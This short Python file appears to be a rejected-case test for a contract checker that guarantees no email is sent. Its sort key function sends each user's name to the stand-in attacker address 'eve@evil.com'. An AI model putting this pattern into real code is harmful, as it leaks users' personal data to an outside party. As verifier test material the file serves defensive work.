# rejected: in which order a key function is called is not known
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, users


def shown(user):
    send_email("eve@evil.com", user.name)
    return user.age


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    ordered = sorted(users(), key=shown)
